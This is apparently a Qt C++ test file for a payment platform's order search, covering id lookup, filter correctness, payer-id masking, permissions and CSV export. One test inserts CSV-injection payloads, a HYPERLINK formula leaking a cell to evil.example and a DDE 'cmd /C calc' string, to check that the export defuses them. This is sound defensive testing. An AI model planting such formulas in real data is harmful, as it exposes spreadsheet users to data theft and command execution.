#include "core/PaydeskCore.h"
#include "core/channel/ChannelNames.h"
#include "core/merchant/MerchantMasking.h"
#include "core/payment/OrderImport.h"
#include "core/payment/search/OrderSearch.h"
#include "core/payment/search/OrderStory.h"
#include "core/storage/Sql.h"
#include "core/util/Clock.h"
#include "core/util/CsvReader.h"
#include "core/util/CsvWriter.h"
#include "core/util/Error.h"
#include "demo/DemoOrders.h"
#include "demo/DemoSetup.h"
#include "tests/support/TestDatabase.h"

#include <QBuffer>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QRandomGenerator>
#include <QScopeGuard>
#include <QTemporaryDir>
#include <QTest>

using namespace paydesk;
using namespace paydesk::test;

// Support's order search: every id kind finds its order, and generated filter combinations,
// read page by page, return exactly what a brute-force pass over all rows in memory returns.
class TestOrderSearch : public QObject
{
    Q_OBJECT

private:
    // An order as the brute force sees it, read with plain SQL and filtered in C++.
    struct Row
    {
        qint64 id = 0;
        QString orderNo, merchantNo, appId, merchantOrderNo, channel, account, method, status;
        QString channelTransactionId, payerId;
        qint64 amount = 0;
        qint64 createdAt = 0;
        std::optional<qint64> paidAt;
        QStringList refundNos, merchantRefundNos, channelRefundIds;
    };

    struct Platform
    {
        TestDatabase db;
        std::unique_ptr<PaydeskCore> core;
        Actor support, finance, onboarding;
        QList<Row> rows;
        explicit Platform(const QString &backend) : db(backend) {}
    };

    QTemporaryDir m_files;
    std::unique_ptr<Platform> m_platform[2];

    Platform *platform()
    {
        QFETCH_GLOBAL(QString, backend);
        const int slot = backend == QLatin1String("sqlite") ? 0 : 1;
        if (m_platform[slot])
            return m_platform[slot].get();
        auto p = std::make_unique<Platform>(backend);
        if (!p->db.isOpen())
            return nullptr;
        p->core = std::make_unique<PaydeskCore>(p->db.shared(), SystemClock::instance());
        DemoSetup::Options options;
        options.ledger.days = 1;
        options.onboarding.merchants = 14;
        options.onboarding.sandboxDirectory = m_files.filePath(QStringLiteral("sandbox-") + backend);
        if (!DemoSetup::create(*p->core, options))
            return nullptr;
        auto actor = [&](const char *name) {
            return p->core->operators()
                .authenticate(QString::fromLatin1(name), QString::fromLatin1(DemoSetup::kPassword), {})
                ->actor;
        };
        p->support = actor("support");
        p->finance = actor("finance");
        p->onboarding = actor("onboarding");
        const QString path = m_files.filePath(QStringLiteral("orders-") + backend + QStringLiteral(".csv"));
        {
            QFile csv(path);
            if (!csv.open(QIODevice::WriteOnly))
                return nullptr;
            DemoOrders::Options generated;
            generated.orders = 2500;
            generated.days = 12;
            if (!DemoOrders::write(p->core->database(), p->core->fees(), csv, generated))
                return nullptr;
        }
        OrderImport importer(p->core->database(), p->core->clock(), p->core->audit(), p->core->fees());
        if (!importer.run(p->finance, path, {}))
            return nullptr;
        if (!loadRows(*p))
            return nullptr;
        m_platform[slot] = std::move(p);
        return m_platform[slot].get();
    }

    static bool loadRows(Platform &p)
    {
        const QSqlDatabase db = p.core->database().connection().value();
        auto q = Sql::run(
            db, QStringLiteral(
                    "SELECT o.id, o.order_no, m.merchant_no, a.app_id, o.merchant_order_no, ca.channel, ca.name, "
                    "o.method, o.status, o.channel_transaction_id, o.payer_id, o.amount, o.created_at, o.paid_at "
                    "FROM payment_order o JOIN merchant m ON m.id = o.merchant_id "
                    "JOIN application a ON a.id = o.application_id JOIN channel_account ca ON ca.id = "
                    "o.channel_account_id"));
        if (!q)
            return false;
        QHash<qint64, qsizetype> index;
        while (q->next()) {
            Row r;
            int c = 0;
            r.id = q->value(c++).toLongLong();
            r.orderNo = q->value(c++).toString();
            r.merchantNo = q->value(c++).toString();
            r.appId = q->value(c++).toString();
            r.merchantOrderNo = q->value(c++).toString();
            r.channel = q->value(c++).toString();
            r.account = q->value(c++).toString();
            r.method = q->value(c++).toString();
            r.status = q->value(c++).toString();
            r.channelTransactionId = q->value(c++).toString();
            r.payerId = q->value(c++).toString();
            r.amount = q->value(c++).toLongLong();
            r.createdAt = q->value(c++).toLongLong();
            if (!q->value(c).isNull())
                r.paidAt = q->value(c).toLongLong();
            index.insert(r.id, p.rows.size());
            p.rows << r;
        }
        auto refunds = Sql::run(
            db,
            QStringLiteral("SELECT order_id, refund_no, merchant_refund_no, channel_refund_id FROM payment_refund"));
        if (!refunds)
            return false;
        while (refunds->next()) {
            Row &r = p.rows[index.value(refunds->value(0).toLongLong())];
            r.refundNos << refunds->value(1).toString();
            r.merchantRefundNos << refunds->value(2).toString();
            r.channelRefundIds << refunds->value(3).toString();
        }
        return p.rows.size() >= 2500;
    }

    static qint64 dayStart(const QDate &day)
    {
        return QDateTime(day, QTime(0, 0), Clock::platformTimeZone()).toMSecsSinceEpoch();
    }

    static bool matches(const Row &r, const OrderFilter &f)
    {
        const QString id = f.anyId.trimmed();
        if (!id.isEmpty() && r.orderNo != id && r.merchantOrderNo != id &&
            (r.channelTransactionId.isEmpty() || r.channelTransactionId != id) &&
            (r.payerId.isEmpty() || r.payerId != id) && !r.refundNos.contains(id) &&
            !r.merchantRefundNos.contains(id) && !(r.channelRefundIds.contains(id) && !id.isEmpty()))
            return false;
        if (!f.merchantNo.isEmpty() && r.merchantNo != f.merchantNo)
            return false;
        if (!f.appId.isEmpty() && r.appId != f.appId)
            return false;
        if (f.channel && r.channel != ChannelNames::channel(*f.channel))
            return false;
        if (!f.channelAccount.isEmpty() && r.account != f.channelAccount)
            return false;
        if (f.method && r.method != ChannelNames::method(*f.method))
            return false;
        if (f.status && r.status != PaymentStates::name(*f.status))
            return false;
        if (f.minAmount && r.amount < *f.minAmount)
            return false;
        if (f.maxAmount && r.amount > *f.maxAmount)
            return false;
        if (!f.createdFrom.isNull() && r.createdAt < dayStart(f.createdFrom))
            return false;
        if (!f.createdTo.isNull() && r.createdAt >= dayStart(f.createdTo.addDays(1)))
            return false;
        if ((!f.paidFrom.isNull() || !f.paidTo.isNull()) && !r.paidAt)
            return false;
        if (!f.paidFrom.isNull() && *r.paidAt < dayStart(f.paidFrom))
            return false;
        if (!f.paidTo.isNull() && *r.paidAt >= dayStart(f.paidTo.addDays(1)))
            return false;
        if (f.hasRefund && *f.hasRefund == r.refundNos.isEmpty())
            return false;
        return true;
    }

    static QList<QString> bruteForce(const Platform &p, const OrderFilter &f)
    {
        QList<const Row *> hits;
        for (const Row &r : p.rows)
            if (matches(r, f))
                hits << &r;
        std::sort(hits.begin(), hits.end(), [](const Row *a, const Row *b) {
            return a->createdAt != b->createdAt ? a->createdAt > b->createdAt : a->id > b->id;
        });
        QList<QString> numbers;
        for (const Row *r : hits)
            numbers << r->orderNo;
        return numbers;
    }

    // Every page of the search, concatenated; empty optional on an error.
    static std::optional<QList<QString>> allPages(Platform &p, const OrderFilter &f, int pageSize,
                                                  OrderSearch::Plan plan = OrderSearch::Plan::Indexed)
    {
        QList<QString> numbers;
        std::optional<OrderCursor> after;
        for (int pages = 0; pages < 10000; ++pages) {
            auto page = p.core->orderSearch().page(p.support, f, after, pageSize, plan);
            if (!page) {
                qWarning() << page.error().message() << OrderSearch::describe(f);
                return std::nullopt;
            }
            if (page->rows.size() > pageSize || (page->next && page->rows.size() != pageSize))
                return std::nullopt;
            for (const OrderSummary &o : std::as_const(page->rows))
                numbers << o.orderNo;
            if (!page->next)
                return numbers;
            after = page->next;
        }
        return std::nullopt;
    }

    static OrderFilter randomFilter(const Platform &p, QRandomGenerator &random)
    {
        const Row &anchor = p.rows.at(random.bounded(int(p.rows.size())));
        auto pick = [&](int percent) { return int(random.bounded(100)) < percent; };
        OrderFilter f;
        if (pick(15)) {
            QStringList ids{anchor.orderNo, anchor.merchantOrderNo, anchor.channelTransactionId, anchor.payerId};
            ids << anchor.refundNos << anchor.merchantRefundNos << anchor.channelRefundIds;
            ids.removeAll(QString());
            f.anyId = ids.at(random.bounded(int(ids.size())));
        }
        if (pick(30))
            f.merchantNo = anchor.merchantNo;
        if (pick(15))
            f.appId = anchor.appId;
        if (pick(20)) {
            ChannelKind kind;
            ChannelNames::channelFromName(pick(80) ? anchor.channel : QStringLiteral("alipay"), &kind);
            f.channel = kind;
        }
        if (pick(15))
            f.channelAccount = anchor.account;
        if (pick(20)) {
            PayMethod method;
            ChannelNames::methodFromName(anchor.method, &method);
            f.method = method;
        }
        if (pick(30)) {
            PaymentStatus status;
            PaymentStates::fromName(pick(80) ? anchor.status : QStringLiteral("failed"), &status);
            f.status = status;
        }
        if (pick(25))
            f.minAmount = qMax<qint64>(0, anchor.amount - random.bounded(2000));
        if (pick(25))
            f.maxAmount = anchor.amount + random.bounded(2000);
        const QDate day = QDateTime::fromMSecsSinceEpoch(anchor.createdAt, Clock::platformTimeZone()).date();
        if (pick(30))
            f.createdFrom = day.addDays(-random.bounded(3));
        if (pick(30))
            f.createdTo = day.addDays(random.bounded(3));
        if (anchor.paidAt && pick(15)) {
            const QDate paid = QDateTime::fromMSecsSinceEpoch(*anchor.paidAt, Clock::platformTimeZone()).date();
            f.paidFrom = paid;
            f.paidTo = paid.addDays(random.bounded(2));
        }
        if (pick(20))
            f.hasRefund = pick(60) ? !anchor.refundNos.isEmpty() : anchor.refundNos.isEmpty();
        return f;
    }

private slots:
    void initTestCase_data() { TestDatabase::addBackendRows(); }
    void initTestCase() { QVERIFY(m_files.isValid()); }

    void everyIdKindFindsItsOrder()
    {
        Platform *p = platform();
        QVERIFY(p);
        int kinds[7] = {};
        for (const Row &r : std::as_const(p->rows)) {
            const QList<std::pair<QString, int>> ids{{r.orderNo, 0},
                                                     {r.merchantOrderNo, 1},
                                                     {r.channelTransactionId, 2},
                                                     {r.payerId, 3},
                                                     {r.refundNos.value(0), 4},
                                                     {r.merchantRefundNos.value(0), 5},
                                                     {r.channelRefundIds.value(0), 6}};
            for (const auto &[id, kind] : ids) {
                if (id.isEmpty() || kinds[kind] >= 5)
                    continue;
                ++kinds[kind];
                OrderFilter f;
                f.anyId = QLatin1Char(' ') + id + QLatin1Char(' '); // as pasted
                auto page = p->core->orderSearch().page(p->support, f, {}, 50);
                QVERIFY2(page.ok(), qPrintable(page.error().message()));
                QList<QString> found;
                for (const OrderSummary &o : std::as_const(page->rows))
                    found << o.orderNo;
                QVERIFY2(found.contains(r.orderNo), qPrintable(id));
                QCOMPARE(found, bruteForce(*p, f));
                const OrderSummary &hit = page->rows.at(found.indexOf(r.orderNo));
                QVERIFY(!hit.matchedBy.isEmpty());
            }
        }
        for (int kind = 0; kind < 7; ++kind)
            QVERIFY2(kinds[kind] == 5,
                     qPrintable(QStringLiteral("id kind %1 seen %2 times").arg(kind).arg(kinds[kind])));

        OrderFilter nobody;
        nobody.anyId = QStringLiteral("no-such-id-anywhere");
        auto none = p->core->orderSearch().page(p->support, nobody);
        QVERIFY(none.ok());
        QVERIFY(none->rows.isEmpty());
        QVERIFY(!none->next);
        QCOMPARE(p->core->orderSearch().count(p->support, nobody).value(), qint64(0));
    }

    void generatedFiltersMatchBruteForce()
    {
        Platform *p = platform();
        QVERIFY(p);
        QRandomGenerator random(20261128);
        int nonEmpty = 0;
        int multiPage = 0;
        for (int i = 0; i < 150; ++i) {
            const OrderFilter f = randomFilter(*p, random);
            const QList<QString> expected = bruteForce(*p, f);
            const int pageSize = 1 + int(random.bounded(40));
            const auto found = allPages(*p, f, pageSize);
            QVERIFY2(found.has_value(), qPrintable(OrderSearch::describe(f)));
            QVERIFY2(*found == expected, qPrintable(QStringLiteral("%1: %2 found, %3 expected")
                                                        .arg(OrderSearch::describe(f))
                                                        .arg(found->size())
                                                        .arg(expected.size())));
            QCOMPARE(p->core->orderSearch().count(p->support, f).value(), qint64(expected.size()));
            nonEmpty += expected.isEmpty() ? 0 : 1;
            multiPage += expected.size() > pageSize ? 1 : 0;
            if (i % 10 == 0) {
                // The full scan the benchmark compares with finds the same first page.
                auto scanned = p->core->orderSearch().page(p->support, f, {}, 50, OrderSearch::Plan::FullScan);
                QVERIFY(scanned.ok());
                QList<QString> first;
                for (const OrderSummary &o : std::as_const(scanned->rows))
                    first << o.orderNo;
                QCOMPARE(first, expected.mid(0, 50));
            }
        }
        // The generator must exercise real work: most combinations find something, many span pages.
        QVERIFY2(nonEmpty >= 100, qPrintable(QString::number(nonEmpty)));
        QVERIFY2(multiPage >= 40, qPrintable(QString::number(multiPage)));

        // No filter at all: the whole table, newest first.
        const auto everything = allPages(*p, OrderFilter{}, 1000);
        QVERIFY(everything.has_value());
        QCOMPARE(*everything, bruteForce(*p, OrderFilter{}));
    }

    void payerIdsMaskedAndAccessChecked()
    {
        Platform *p = platform();
        QVERIFY(p);
        const Row *withPayer = nullptr;
        for (const Row &r : std::as_const(p->rows))
            if (r.payerId.size() > 6) {
                withPayer = &r;
                break;
            }
        QVERIFY(withPayer);
        OrderFilter f;
        f.anyId = withPayer->orderNo;
        const OrderSummary seenBySupport = p->core->orderSearch().page(p->support, f).value().rows.value(0);
        const OrderSummary seenByFinance = p->core->orderSearch().page(p->finance, f).value().rows.value(0);
        QCOMPARE(seenByFinance.payerId, withPayer->payerId);
        QVERIFY(seenBySupport.payerId != withPayer->payerId);
        QVERIFY(seenBySupport.payerId.contains(QLatin1Char('*')));
        // Found by the payer id itself, still shown masked.
        f.anyId = withPayer->payerId;
        const auto byPayer = p->core->orderSearch().page(p->support, f).value();
        QVERIFY(!byPayer.rows.isEmpty());
        for (const OrderSummary &o : byPayer.rows) {
            QCOMPARE(o.matchedBy, QStringLiteral("payer_id"));
            QVERIFY(o.payerId.contains(QLatin1Char('*')));
        }

        auto denied = p->core->orderSearch().page(p->onboarding, OrderFilter{});
        QVERIFY(!denied.ok());
        QCOMPARE(denied.error().code(), ErrorCode::PermissionDenied);
        QCOMPARE(p->core->orderSearch().count(p->onboarding, OrderFilter{}).error().code(),
                 ErrorCode::PermissionDenied);
    }

    void badFiltersAreRefused()
    {
        Platform *p = platform();
        QVERIFY(p);
        OrderSearch &search = p->core->orderSearch();
        auto refused = [&](const OrderFilter &f, const QString &word) {
            auto page = search.page(p->support, f);
            return !page.ok() && page.error().code() == ErrorCode::InvalidArgument &&
                   page.error().detail().contains(word);
        };
        OrderFilter f;
        f.merchantNo = QStringLiteral("M9999");
        QVERIFY(refused(f, QStringLiteral("M9999")));
        f = {};
        f.appId = QStringLiteral("app-nobody");
        QVERIFY(refused(f, QStringLiteral("app-nobody")));
        f = {};
        f.channelAccount = QStringLiteral("no_account");
        QVERIFY(refused(f, QStringLiteral("no_account")));
        f = {};
        f.minAmount = 500;
        f.maxAmount = 100;
        QVERIFY(refused(f, QStringLiteral("amount")));
        f = {};
        f.minAmount = -1;
        QVERIFY(refused(f, QStringLiteral("amount")));
        f = {};
        f.createdFrom = QDate(2026, 11, 20);
        f.createdTo = QDate(2026, 11, 19);
        QVERIFY(refused(f, QStringLiteral("created")));
        f = {};
        f.paidFrom = QDate(2026, 11, 20);
        f.paidTo = QDate(2026, 11, 1);
        QVERIFY(refused(f, QStringLiteral("paid")));
        QCOMPARE(search.page(p->support, OrderFilter{}, {}, 0).error().code(), ErrorCode::InvalidArgument);
        QCOMPARE(search.page(p->support, OrderFilter{}, {}, OrderSearch::kMaxPageSize + 1).error().code(),
                 ErrorCode::InvalidArgument);
    }

    void exportStreamsEveryRowAndCanBeCancelled()
    {
        Platform *p = platform();
        QVERIFY(p);
        OrderFilter f;
        f.hasRefund = true;
        const QList<QString> expected = bruteForce(*p, f);
        QVERIFY(expected.size() > 50);
        const qint64 auditBefore =
            Sql::scalar(p->core->database().connection().value(),
                        QStringLiteral("SELECT count(*) FROM audit_log WHERE action = 'order.export'"))
                ->toLongLong();

        QBuffer csv;
        QVERIFY(csv.open(QIODevice::ReadWrite));
        QList<qint64> progress;
        auto written = p->core->orderSearch().exportCsv(p->support, f, csv, [&](qint64 rows) {
            progress << rows;
            return true;
        });
        QVERIFY2(written.ok(), qPrintable(written.error().message()));
        QCOMPARE(*written, qint64(expected.size()));
        QVERIFY(!progress.isEmpty());
        QCOMPARE(progress.constLast(), *written);
        auto parsed = CsvReader::read(csv.data());
        QVERIFY(parsed.ok());
        QCOMPARE(parsed->size(), expected.size() + 1);
        QCOMPARE(parsed->first().fields.first(), QStringLiteral("order_no"));
        const int payerColumn = int(parsed->first().fields.indexOf(QStringLiteral("payer_id")));
        QVERIFY(payerColumn > 0);
        for (qsizetype i = 0; i < expected.size(); ++i) {
            QCOMPARE(parsed->at(i + 1).fields.first(), expected.at(i));
            const QString payer = parsed->at(i + 1).fields.at(payerColumn);
            QVERIFY(payer.isEmpty() || payer.contains(QLatin1Char('*'))); // support's export is masked too
        }
        const QSqlDatabase db = p->core->database().connection().value();
        QCOMPARE(Sql::scalar(db, QStringLiteral("SELECT count(*) FROM audit_log WHERE action = 'order.export'"))
                     ->toLongLong(),
                 auditBefore + 1);

        // Cancelled after the first page: an error, and no audit record of an export that did not happen.
        QBuffer cancelled;
        QVERIFY(cancelled.open(QIODevice::ReadWrite));
        auto stopped =
            p->core->orderSearch().exportCsv(p->support, OrderFilter{}, cancelled, [](qint64) { return false; });
        QVERIFY(!stopped.ok());
        QCOMPARE(stopped.error().code(), ErrorCode::Cancelled);
        QCOMPARE(Sql::scalar(db, QStringLiteral("SELECT count(*) FROM audit_log WHERE action = 'order.export'"))
                     ->toLongLong(),
                 auditBefore + 1);
        QCOMPARE(p->core->orderSearch().exportCsv(p->onboarding, f, cancelled).error().code(),
                 ErrorCode::PermissionDenied);
    }

    // Text that payers, merchants and channels chose goes into the CSV defused: the review's
    // payer id wrote =HYPERLINK(…) in clear. Amounts stay numbers.
    void exportDefusesFormulasAndControlCharacters()
    {
        Platform *p = platform();
        QVERIFY(p);
        const Row *paid = nullptr;
        for (const Row &r : std::as_const(p->rows)) {
            if (!r.payerId.isEmpty() && r.paidAt && !r.channelTransactionId.isEmpty()) {
                paid = &r;
                break;
            }
        }
        QVERIFY(paid);
        const QString payer =
            QStringLiteral("=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click for your refund\")");
        const QString subject = QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0\r\n\x1b[2Jnext\tline");
        const QString merchantOrderNo = QStringLiteral("+%1\u202E").arg(paid->merchantOrderNo);
        const QString channelTransactionId = QStringLiteral("-%1").arg(paid->channelTransactionId);
        const QSqlDatabase db = p->core->database().connection().value();
        auto original = Sql::run(db, QStringLiteral("SELECT subject FROM payment_order WHERE id = ?"), {paid->id});
        QVERIFY(original && original->next());
        const QString originalSubject = original->value(0).toString();
        original->finish();
        const QString update =
            QStringLiteral("UPDATE payment_order SET payer_id = ?, subject = ?, merchant_order_no = ?, "
                           "channel_transaction_id = ? WHERE id = ?");
        QVERIFY(
            Sql::exec(db, update,
                      {payer + QStringLiteral("\x01\x07"), subject, merchantOrderNo, channelTransactionId, paid->id})
                .ok());
        auto restore = qScopeGuard([&]() {
            (void)Sql::exec(
                db, update,
                {paid->payerId, originalSubject, paid->merchantOrderNo, paid->channelTransactionId, paid->id});
        });

        OrderFilter f;
        f.anyId = paid->orderNo;
        for (const Actor &actor : {p->finance, p->support}) {
            QBuffer csv;
            QVERIFY(csv.open(QIODevice::ReadWrite));
            auto written = p->core->orderSearch().exportCsv(actor, f, csv);
            QVERIFY2(written.ok(), qPrintable(written.error().message()));
            QCOMPARE(*written, qint64(1));
            for (char c = 0; c < 0x20; ++c) {
                if (c != '\r' && c != '\n')
                    QVERIFY2(!csv.data().contains(c), qPrintable(QString::number(int(c))));
            }
            auto parsed = CsvReader::read(csv.data());
            QVERIFY(parsed.ok());
            QCOMPARE(parsed->size(), 2); // a line break in the subject did not make a row
            const QStringList header = parsed->at(0).fields;
            const QStringList row = parsed->at(1).fields;
            QCOMPARE(row.size(), header.size());
            auto cell = [&](const char *name) { return row.at(header.indexOf(QString::fromLatin1(name))); };
            const bool sensitive = actor.name() == QLatin1String("finance");
            if (sensitive)
                QCOMPARE(cell("payer_id"), QLatin1Char('\'') + payer);
            else
                QVERIFY2(cell("payer_id").startsWith(QStringLiteral("'=")) &&
                             cell("payer_id").contains(QLatin1Char('*')),
                         qPrintable(cell("payer_id"))); // masked, and still defused
            QCOMPARE(cell("subject"), QStringLiteral("'@SUM(1+1)*cmd|' /C calc'!A0  [2Jnext line"));
            QCOMPARE(cell("merchant_order_no"), QStringLiteral("'+") + paid->merchantOrderNo);
            QCOMPARE(cell("channel_transaction_id"), QStringLiteral("'-") + paid->channelTransactionId);
            for (const char *amount : {"amount", "refunded_amount", "merchant_fee", "channel_fee"})
                QVERIFY2(CsvWriter::isPlainNumber(cell(amount)), qPrintable(cell(amount)));
            for (const QString &field : row) {
                QVERIFY2(!field.startsWith(QLatin1Char('=')) && !field.startsWith(QLatin1Char('+')) &&
                             !field.startsWith(QLatin1Char('@')) && !field.contains(QChar(0x202E)),
                         qPrintable(field));
            }
        }
    }

    void storySnapshotsHidePersonalData()
    {
        const QJsonObject raw{
            {QStringLiteral("payer"),
             QJsonObject{{QStringLiteral("openid"), QStringLiteral("oUpF8uMuAJO_M2pxb1Q9zNjWeS6o")}}},
            {QStringLiteral("fund_bill_list"),
             QJsonArray{QJsonObject{{QStringLiteral("buyer_logon_id"), QStringLiteral("buyer@example.com")}}}},
            {QStringLiteral("amount"), QStringLiteral("88.00")}};
        const QJsonObject masked = OrderStories::maskPersonalData(raw);
        const QByteArray text = QJsonDocument(masked).toJson(QJsonDocument::Compact);
        QVERIFY(!text.contains("oUpF8uMuAJO_M2pxb1Q9zNjWeS6o"));
        QVERIFY(!text.contains("buyer@example.com"));
        QVERIFY(text.contains("\"amount\":\"88.00\""));
        QCOMPARE(masked.value(QStringLiteral("payer")).toObject().value(QStringLiteral("openid")).toString(),
                 MerchantMasking::payerId(QStringLiteral("oUpF8uMuAJO_M2pxb1Q9zNjWeS6o")));
    }

    void cleanupTestCase()
    {
        m_platform[0].reset();
        m_platform[1].reset();
    }
};

QTEST_GUILESS_MAIN(TestOrderSearch)
#include "tst_ordersearch.moc"
